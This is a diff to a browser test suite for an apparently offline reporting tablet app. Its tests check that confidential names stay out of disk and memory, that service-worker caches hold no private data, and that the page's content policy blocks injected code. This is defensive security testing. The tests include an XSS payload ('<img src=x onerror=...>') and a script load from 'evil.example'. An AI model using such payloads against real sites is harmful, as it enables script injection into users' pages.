@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -79,6 +80,16 @@ def found_in(folder: Path, words: list[str]) -> dict[str, list[str]]:
         spelt = {word.encode(), word.encode("utf-16-le"), word.encode("latin-1", "replace")}
         hits[word] = [str(path) for path, data in files.items() if any(form in data for form in spelt)]
     return {word: where for word, where in hits.items() if where}
+
+
+def held_by(page) -> str:
+    """All strings that the page holds in memory, after what nobody refers to is thrown away."""
+    devtools, chunks = page.context.new_cdp_session(page), []
+    devtools.on("HeapProfiler.addHeapSnapshotChunk", lambda told: chunks.append(told["chunk"]))
+    devtools.send("HeapProfiler.enable")
+    devtools.send("HeapProfiler.collectGarbage")
+    devtools.send("HeapProfiler.takeHeapSnapshot", {"reportProgress": False})
+    return "\n".join(json.loads("".join(chunks))["strings"])
 
 
 def use(tablet, server) -> list[str]:
@@ -258,9 +269,103 @@ def test_a_report_in_confidence_is_read_by_its_reader_and_nowhere_on_the_tablet(
     for page in ["#/records", "#/report", "#/"]:
         tablet.go(page)
         expect(tablet.page.locator("body")).not_to_contain_text("Kwilumbazi")
+    # Unlocked, and not yet sent: neither on the disk nor in what the page holds.
+    assert found_in(profile.folder, ["Kwilumbazi", "Tambourazo"]) == {}
+    held = held_by(tablet.page)
+    assert "Doumbia" in held, "this is not the page's memory"
+    assert [word for word in ("Kwilumbazi", "Tambourazo") if word in held] == []
     server.start()
     tablet.send()
     tablet.page.context.close()
 
     assert found_in(profile.folder, ["Kwilumbazi", "Tambourazo"]) == {}
     assert "Six men at Tambourazo" in server.manage("open_reports", "--key", str(tmp_path / "reader.pem"))
+
+
+SCRIPT = "<img src=x onerror=window.ran=1>"
+
+
+def test_a_script_in_a_record_is_read_as_words_and_the_page_runs_nothing_that_came_later(server, hand_out):
+    tablet = hand_out()
+    tablet.enrol(server.desk("offer", "14")["code"])
+    number = tablet.record("site", {**SITE, "name": SCRIPT, "place": SCRIPT})
+    tablet.send()
+    server.desk("decide", number, "returned", SCRIPT)
+    tablet.send()
+    tablet.open_record(number)
+    expect(tablet.page.locator("body")).to_contain_text(SCRIPT)
+    tablet.go("#/find")
+    tablet.page.fill("input[type=search]", "img")
+    expect(tablet.page.locator("body")).to_contain_text(SCRIPT)
+    tablet.assert_quiet()
+
+    # From a timer: what the test itself calls is let through.
+    assert tablet.page.evaluate("""() => new Promise((told) => setTimeout(() => {
+        const refused = [];
+        const attempt = (what, act) => { try { act(); } catch (fault) { refused.push(what); } };
+        attempt("markup", () => { document.body.innerHTML = "<b>x</b>"; });
+        attempt("eval", () => { (0, eval)("window.ran = 1"); });
+        attempt("function", () => { new Function("window.ran = 1")(); });
+        attempt("address", () => {
+            const script = document.createElement("script");
+            script.src = "https://evil.example/x.js";
+            document.head.append(script);
+        });
+        const handler = document.createElement("button");
+        attempt("handler", () => handler.setAttribute("onclick", "window.ran = 1"));
+        handler.click();
+        told(refused);
+    }))""") == ["markup", "eval", "function", "address", "handler"]
+    assert tablet.page.evaluate("() => window.ran") is None
+    assert tablet.faults, "the policy said nothing"
+
+
+def test_what_the_service_worker_keeps_is_of_nobody(server, hand_out):
+    tablet = hand_out()
+    tablet.enrol(server.desk("offer", "14")["code"])
+    number = tablet.record("buyer", BUYER)
+    tablet.send()
+
+    kept = tablet.page.evaluate("""async () => {
+        const found = [];
+        for (const name of await caches.keys())
+            for (const request of await (await caches.open(name)).keys()) {
+                const answer = await (await caches.open(name)).match(request);
+                found.push([new URL(request.url).pathname, await answer.text()]);
+            }
+        return found;
+    }""")
+
+    assert kept
+    assert [path for path, _ in kept if path.startswith(("/api/", "/desk/"))] == []
+    words = ["Doumbia", "Koumba", "Mbolokwe", number]
+    assert [path for path, text in kept if any(word in text for word in words)] == []
+    assert tablet.page.evaluate("() => [localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
+
+
+def test_a_colleague_goes_on_where_the_office_closed_the_tablet_for_one_officer(server, hand_out, key):
+    tablet = hand_out()
+    server.desk("colleague")
+    tablet.enrol(server.desk("offer", "14")["code"])
+    server.stop()
+    tablet.record("buyer", BUYER)
+    tablet.lock()
+    server.desk("leave", "14", "awa")
+    server.start()
+    tablet.join(server.desk("offer", "14", "bintou")["code"], OTHERS)
+    tablet.lock()
+    tablet.page.click("[data-officer='1']")
+    tablet.unlock()
+    tablet.page.click(".contact-line > button.secondary:last-child")
+    expect(tablet.page.locator("[data-closed]")).to_be_visible(timeout=30_000)
+
+    tablet.page.click("[data-officer='2']")
+    tablet.unlock(OTHERS)
+    tablet.record("buyer", {**answers.BUYER, "number": "B-0700"})
+    tablet.send()
+    assert tablet.counts() == (0, 1, 0)
+    tablet.lock()
+    tablet.page.click("[data-officer='1']")
+    tablet.page.click("[data-do=drop]")
+    expect(tablet.page.locator("[data-dropped]")).to_be_visible(timeout=30_000)
+    assert "Applied: 1. Here already: 1." in server.manage("open_sealed", "--key", str(key))
